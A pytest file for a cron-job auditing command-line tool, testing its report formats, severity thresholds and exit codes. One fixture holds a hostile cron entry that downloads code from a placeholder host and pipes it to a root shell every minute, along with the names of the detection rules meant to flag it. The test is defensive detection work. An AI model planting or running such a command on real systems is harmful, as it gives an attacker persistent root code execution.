"""The `audit` and `collect` verbs as a user runs them: formats, levels, exit codes."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

from click.testing import CliRunner

from schedwarden.cli.main import main
from tests.conftest import MakeRoot

CLEAN = {"etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"}
SUSPICIOUS = {"etc/cron.d/x": "* * * * * root /bin/sh%curl -s http://x|sh%\n"}
BROKEN = {"etc/cron.d/y": "61 * * * * root /bin/true\n"}


def _run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_clean_image_exits_0_with_json_contract(make_root: MakeRoot) -> None:
    code, out, _ = _run("audit", str(make_root(CLEAN)), "-f", "json")
    assert code == 0
    document = json.loads(out)
    assert document["schema"] == "schedwarden.audit/1"
    assert document["summary"]["jobs"] == 1
    assert document["source"]["host"] == "testhost"


def test_root_option_is_the_same_as_path(make_root: MakeRoot) -> None:
    root = str(make_root(CLEAN))
    assert json.loads(_run("collect", "--root", root, "-f", "json")[1])["summary"]["jobs"] == 1
    code, _, err = _run("collect", root, "--root", root)
    assert code == 2
    assert "either PATH or --root" in err


def test_fail_on_and_min_level(make_root: MakeRoot) -> None:
    root = str(make_root(SUSPICIOUS))
    assert _run("audit", root, "-f", "json")[0] == 0
    assert _run("audit", root, "-f", "json", "--fail-on", "high")[0] == 1
    assert _run("audit", root, "-f", "json", "--fail-on", "critical")[0] == 0
    quiet = json.loads(_run("audit", root, "-f", "json", "-m", "critical")[1])
    assert quiet["findings"] == []


def test_unreadable_evidence_exits_3_and_reports_issue(make_root: MakeRoot) -> None:
    code, out, err = _run("audit", str(make_root(BROKEN)), "-f", "json")
    assert code == 3
    assert json.loads(out)["issues"][0]["code"] == "PARSE_ERROR"
    assert "1 evidence problem" in err
    code, _, err = _run("audit", str(make_root(BROKEN)), "-f", "json", "-q")
    assert code == 3
    assert err == ""


def test_usage_errors_exit_2(tmp_path: Path) -> None:
    assert _run("audit", str(tmp_path / "missing"))[0] == 2
    (tmp_path / "file").write_text("x")
    assert _run("audit", "--root", str(tmp_path / "file"))[0] == 2
    assert _run("audit", "-f", "yaml")[0] == 2


def test_a_loose_file_is_read_as_a_definition(tmp_path: Path) -> None:
    """A PATH that is not a system root is a set of loose files: nothing of the host is read."""
    (tmp_path / "notes.txt").write_text("* * * * * root /bin/true\n")
    code, out, _ = _run("audit", str(tmp_path / "notes.txt"), "-f", "json")
    assert code == 0
    document = json.loads(out)
    assert document["source"]["kind"] == "file"
    assert document["jobs"] == []


def test_jsonl_csv_and_table(make_root: MakeRoot) -> None:
    root = str(make_root(SUSPICIOUS))
    lines = [json.loads(line) for line in _run("audit", root, "-f", "jsonl")[1].splitlines()]
    # the cron rule (PAYLOAD_IN_STDIN) and the Sigma pack (DOWNLOAD_PIPED_TO_SHELL,
    # SCHEDULE_EVERY_MINUTE) flag it
    assert [line["type"] for line in lines] == ["run", "job"] + ["finding"] * 3 + ["summary"]
    assert lines[0]["schema"] == "schedwarden.audit/1"
    rows = list(csv.DictReader(io.StringIO(_run("audit", root, "-f", "csv")[1])))
    assert [row["type"] for row in rows] == ["job", "finding", "finding", "finding"]
    assert rows[0]["stdin"] == "curl -s http://x|sh\\x0a"
    assert rows[1]["rule"] == "PAYLOAD_IN_STDIN"
    table = _run("audit", root, "--no-color")[1]
    assert "PAYLOAD_IN_STDIN" in table
    assert "\x1b[" not in table


def test_output_file_and_refusal_inside_root(make_root: MakeRoot, tmp_path: Path) -> None:
    root = make_root(CLEAN)
    out = tmp_path / "audit.json"
    assert _run("audit", str(root), "-f", "json", "-o", str(out))[0] == 0
    assert json.loads(out.read_text())["summary"]["jobs"] == 1
    code, _, err = _run("audit", str(root), "-f", "json", "-o", str(root / "etc" / "x.json"))
    assert code == 2
    assert "inside the evidence root" in err
    assert not (root / "etc" / "x.json").exists()


def test_live_host_audit_runs(monkeypatch: object) -> None:
    """No PATH: the running host, read-only. Whatever it holds, the run must finish."""
    code, out, _ = _run("audit", "-f", "json", "-q")
    assert code in (0, 3)
    document = json.loads(out)
    assert document["source"]["kind"] == "live"


def test_unreadable_subfolder_of_loose_files_is_an_issue(tmp_path: Path) -> None:
    (tmp_path / "manifests" / "loop").mkdir(parents=True)
    os.symlink("loop", tmp_path / "manifests" / "loop" / "self")
    os.symlink("/nonexistent-target", tmp_path / "manifests" / "dangling.yaml")
    code, out, _ = _run("collect", str(tmp_path / "manifests"), "-f", "json")
    document = json.loads(out)
    assert code == 3
    assert document["source"]["kind"] == "file"
    assert {i["code"] for i in document["issues"]} == {"DANGLING_SYMLINK"}
